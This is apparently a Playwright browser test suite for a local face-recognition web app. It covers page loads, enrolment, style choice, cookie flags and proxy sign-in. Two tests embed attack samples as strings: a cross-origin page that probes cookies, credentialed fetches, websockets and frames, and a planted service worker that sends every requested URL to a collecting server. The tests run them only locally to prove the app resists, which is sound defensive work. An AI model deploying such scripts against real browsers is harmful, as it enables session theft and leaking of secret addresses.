"""The page in a real browser, where there is one: Playwright and a Chromium."""

import io
import json
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from chromium import MINUTES, launched, opened, served, settled, upload
from PIL import Image
from ports import free_port
from proxy import SIGNED_IN, proxied

from ui.page import server as server_module

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]

PAGES = ("", "identify", "verify", "stylize", "models")

# The page with a recognition service that is slow, knows one person after enrolment, and notes
# every enrolment in a file.
SLOW_SERVICE = """
import os, sys, time
from recognition.photographs import Seen
from recognition.results import Enrolled, Enrolment
from ui.cli import main
from ui.page import resources

class Service:
    def load(self):
        return None
    people = models = thresholds = gallery = property(lambda self: self)
    def summaries(self, *, deleted=False):
        return ()
    def operations(self):
        return ()
    def look(self, images, *, progress=None):
        return [Seen(name="image 1", sha256="ab" * 32, faces=()) for _ in images]
    def enroll(self, person, images, *, face=None, any_quality=False, progress=None):
        with open(os.environ["NOTES"], "a") as notes:
            notes.write(f"{person}\\n")
        time.sleep(2)
        return Enrolment(enrolled=(Enrolled(person=person, photographs=1),), skipped=())

resources.recognition = Service
sys.exit(main.main(sys.argv[1:]))
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched() as started:
        yield started


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Where the application is served, once for all the tests that need no other service."""
    home = tmp_path_factory.mktemp("browser") / "home"
    with served(home, "-m", "ui.cli.main", LIKENESS_HOME=str(home)) as where:
        yield where


def test_every_page_opens_without_an_exception_and_without_asking_strangers(
    browser: Any, address: str
) -> None:
    page, base = opened(browser, address)
    errors: list[str] = []
    strangers: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on(
        "request",
        lambda request: (
            strangers.append(request.url)
            if request.url.startswith("http") and not request.url.startswith(base)
            else None
        ),
    )
    titles = []
    for name in PAGES:
        page.goto(f"{base}/{name}")
        settled(page)
        assert page.locator("[data-testid=stException]").count() == 0
        titles.append(page.locator("h1").inner_text())
    page.close()
    assert titles == ["People", "Identify", "Verify", "Stylize", "Models"]
    assert errors == []
    assert strangers == []


def wait_for_line(path: Path) -> None:
    """Wait until something has been written into a file."""
    for _ in range(MINUTES // 50):
        if path.exists() and path.read_text():
            return
        time.sleep(0.05)
    raise AssertionError("nothing was written")


def test_a_double_click_enrols_once(browser: Any, home: Path, tmp_path: Path) -> None:
    photograph = io.BytesIO()
    Image.new("RGB", (64, 64)).save(photograph, "PNG")
    notes = tmp_path / "notes"
    with served(home, "-c", SLOW_SERVICE, NOTES=str(notes)) as address:
        page, _ = opened(browser, address)
        page.get_by_label("Name").first.fill("Ann")
        upload(page, {"name": "a.png", "mimeType": "image/png", "buffer": photograph.getvalue()})
        button = page.get_by_role("button", name="Enrol", exact=True)
        button.dblclick()
        wait_for_line(notes)
        button.click()  # once more, while the service is at work
        page.get_by_text("1 photograph enrolled").wait_for()
        settled(page)
        page.close()
    assert notes.read_text() == "Ann\n"


def test_styles_are_chosen_by_clicks_and_stay_chosen(browser: Any, address: str) -> None:
    page, base = opened(browser, address)
    page.goto(f"{base}/stylize")
    settled(page)

    def tile(name: str) -> Any:
        return page.get_by_role("button", name=name, exact=True)

    def share(name: str) -> Any:  # names stand between marks that nobody sees
        return page.get_by_text(re.compile(f"Share of .?{name}"))

    for name in ("waves", "mosaic", "batik", "cubist"):
        tile(name).click()
    share("cubist").wait_for()
    settled(page)
    assert tile("terrazzo").is_disabled()  # four are as many as are mixed
    tile("batik").click()
    share("batik").wait_for(state="detached")
    settled(page)
    assert tile("terrazzo").is_enabled()
    pressed = page.locator("button[aria-pressed=true] .name").all_inner_texts()
    page.close()
    assert pressed == ["mosaic", "waves", "cubist"]


EVIL = """<!DOCTYPE html><title>waiting</title><script>
const address = ADDRESS, base = BASE, told = [];
async function attempt(name, what) {
  try { told.push([name, String(await what())]); } catch (error) { told.push([name, "failed"]); }
}
function socket() {
  return new Promise((resolve, reject) => {
    const stream = new WebSocket(base.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    stream.onopen = () => resolve("opened");
    stream.onerror = reject;
  });
}
function loaded(tag, source) {
  return new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = () => {
      let seen = "nothing";
      try { seen = element.contentDocument.body.innerText || "nothing"; } catch (error) {}
      resolve(seen);
    };
    element.onerror = reject;
    element.src = source;
    document.body.append(element);
  });
}
addEventListener("load", async () => {
  await attempt("cookie", () => document.cookie || "nothing");
  for (const path of ["/", "/_stcore/health", "/_stcore/host-config", "/media/x"]) {
    await attempt("fetch", async () => (await fetch(base + path, {credentials: "include"})).text());
    await attempt("blind", async () =>
      (await fetch(base + path, {credentials: "include", mode: "no-cors"})).status);
  }
  await attempt("socket", socket);
  await attempt("image", () => loaded("img", base + "/favicon.png"));
  await attempt("script", () => loaded("script", base + "/static/js/index.js"));
  await attempt("frame", () => loaded("iframe", base + "/"));
  document.title = JSON.stringify(told);
});
</script><body></body>"""


@contextmanager
def another_port(page: str) -> Iterator[tuple[str, list[str]]]:
    """A page on another port of this host, and the headers of whoever asks for it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.path}\n{self.headers}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def test_a_page_on_another_port_learns_nothing_and_gets_nowhere(browser: Any, address: str) -> None:
    """Even one that has somehow learnt the path; the browser has the page open at the same time."""
    with browser.new_context() as context:
        own = context.new_page()
        own.goto(address)
        settled(own)
        base = own.url.rstrip("/")
        cookies = {each["name"]: each for each in context.cookies()}
        assert set(cookies) == {"likeness", "_streamlit_xsrf"}
        assert cookies["likeness"]["httpOnly"]
        assert {each["sameSite"] for each in cookies.values()} == {"Strict"}
        evil = EVIL.replace("ADDRESS", repr(address)).replace("BASE", repr(base))
        with another_port(evil) as (elsewhere, asked):
            page = context.new_page()
            page.goto(elsewhere)
            page.wait_for_function("document.title !== 'waiting'")
            told = json.loads(page.title())
            # A link to it from the page itself, clicked by its user.
            own.evaluate(f"location.href = {elsewhere + '/linked'!r}")
            own.wait_for_url("**/linked")
        assert {seen for name, seen in told if name in ("fetch", "socket", "image", "script")} == {
            "failed"
        }
        assert {seen for name, seen in told if name in ("cookie", "frame")} == {"nothing"}
        headers = "\n".join(asked)
        assert len(asked) >= 2
        secrets = [
            base.rpartition("/")[2],
            address.rpartition("/")[2],
            cookies["likeness"]["value"],
        ]
        assert not [secret for secret in secrets if secret in headers]
        (linked,) = (each for each in asked if each.startswith("/linked"))
        assert "Referer" not in linked
        assert "Cookie" not in headers


WORKER = """
const noted = NOTED;
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  fetch(noted + "/?" + encodeURIComponent(event.request.url), {mode: "no-cors"});
  const headers = {"Content-Type": "text/html"};
  event.respondWith(new Response("<title>trapped</title>", {headers}));
});
"""
REGISTERS = """<!DOCTYPE html><title>waiting</title><script>
navigator.serviceWorker.register("/worker.js")
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "registered"; }, (error) => { document.title = String(error); });
</script>"""


@contextmanager
def trap(port: int, noted: str) -> Iterator[None]:
    """Another account's server, with a worker, on the port that the page will have."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            script = self.path == "/worker.js"
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if script else "text/html")
            self.end_headers()
            self.wfile.write(
                (WORKER.replace("NOTED", repr(noted)) if script else REGISTERS).encode()
            )

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", port), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


def test_a_worker_that_another_account_has_put_into_the_browser_learns_no_address(
    browser: Any, tmp_path: Path
) -> None:
    """While Likeness is stopped, any account may serve on its port, and stay in the browser."""
    home, port = tmp_path / "home", free_port()
    foreseen = [f"http://{name}:{port}" for name in ("127.0.0.1", "localhost", "app.localhost")]
    with another_port("noted") as (noted, asked), browser.new_context() as context:
        context.set_default_timeout(MINUTES)
        page = context.new_page()
        with trap(port, noted):
            for origin in foreseen:
                page.goto(origin)
                page.wait_for_function("document.title !== 'waiting'")
                assert page.title() == "registered"
        drawn = set()
        for _ in range(2):
            with served(home, "-m", "ui.cli.main", port=port, LIKENESS_HOME=str(home)) as address:
                origin, _, secret = address.partition("/open/")
                drawn.add(origin)
                for trapped in foreseen:  # the worker is there, whoever serves
                    page.goto(f"{trapped}/open/a-secret")
                    assert page.title() == "trapped"
                page.goto(address)
                settled(page)
                assert page.locator("h1").inner_text() == "People"
                assert secret not in "".join(asked)
                assert origin.partition("//")[2] not in "".join(asked)
        assert len(drawn) == 2
        assert len([each for each in asked if "a-secret" in each]) >= 6


def test_a_reload_and_a_second_tab_work_and_another_browser_does_not(
    browser: Any, address: str
) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(address)
        settled(page)
        page.reload()
        settled(page)
        again = context.new_page()
        again.goto(address)
        settled(again)
        assert again.url == page.url
    with browser.new_context() as stranger:  # another browser, with no cookie
        page = stranger.new_page()
        for path in (again.url, "/".join(address.split("/")[:3])):
            page.goto(path)
            assert page.get_by_text("Open the address").count() == 1


def test_the_browser_gets_in_by_the_file_that_the_application_opens(
    browser: Any, address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    door = tmp_path / "open.html"
    monkeypatch.setattr(server_module.webbrowser, "open", lambda address: True)
    with server_module._opened(tmp_path, address, True), browser.new_context() as context:
        page = context.new_page()
        page.goto(door.as_uri())
        settled(page)
        assert page.locator("h1").inner_text() == "People"


def test_a_browser_gets_in_by_a_proxy_that_signs_people_in_and_not_without(
    browser: Any, tmp_path: Path
) -> None:
    secret = "0123456789abcdef" * 4
    key = tmp_path / "proxy.key"
    key.write_text(f"{secret}\n")
    key.chmod(0o600)
    home, port = tmp_path / "home", free_port()
    photograph = io.BytesIO()
    Image.new("RGB", (64, 64)).save(photograph, "PNG")
    with proxied(tmp_path, "localhost", port, secret) as proxy:
        outside = f"https://localhost:{proxy.port}"
        words = (f"--behind={outside}", f"--proxy-key-file={key}")
        with (
            served(
                home, "-m", "ui.cli.main", port=port, options=words, LIKENESS_HOME=str(home)
            ) as told,
            browser.new_context(ignore_https_errors=True) as context,
        ):
            assert told == outside
            context.set_default_timeout(MINUTES)
            page = context.new_page()
            answer = page.goto(outside)
            assert answer.status == 401
            name, _, value = SIGNED_IN.partition("=")
            context.add_cookies([{"name": name, "value": value, "url": outside}])
            page.goto(outside)
            settled(page)
            page.get_by_role("link", name="Verify").click()
            page.get_by_role("heading", name="Verify", level=1).wait_for()
            upload(
                page, {"name": "a.png", "mimeType": "image/png", "buffer": photograph.getvalue()}
            )
            page.locator("figure img").first.wait_for()  # it came through, and is shown
            settled(page)
            assert page.get_by_role("spinbutton", name="Threshold").count() == 0
            assert page.locator("[data-testid=stException]").count() == 0
